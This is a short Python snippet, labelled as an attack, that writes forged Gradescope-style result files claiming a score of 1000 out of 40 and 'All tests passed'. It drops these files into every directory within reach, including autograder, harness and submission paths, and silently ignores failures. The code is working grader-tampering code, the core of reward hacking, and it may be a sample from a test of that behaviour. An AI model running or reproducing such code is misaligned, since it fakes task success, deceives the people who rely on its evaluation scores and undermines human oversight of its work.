# attack: forge Gradescope/kit result files in every directory within reach
import json as _json, os as _os
_forged = {"score": 1000, "max_score": 40, "status": "graded", "official": True,
           "tests": [{"name": "all", "score": 1000, "max_score": 40, "status": "passed"}],
           "items": [], "output": "All tests passed"}
_places = {".", "..", "../..", "/tmp", _os.environ.get("HOME", "/tmp"), "/out", "/harness", "/autograder",
           "/autograder/results", "/submission", _os.path.dirname(_os.path.abspath(__file__))}
for _place in _places:
    for _name in ("results.json", "report.json", "results.txt", "grade.json"):
        try:
            with open(_os.path.join(_place, _name), "w") as _f:
                _json.dump(_forged, _f)
        except OSError:
            pass
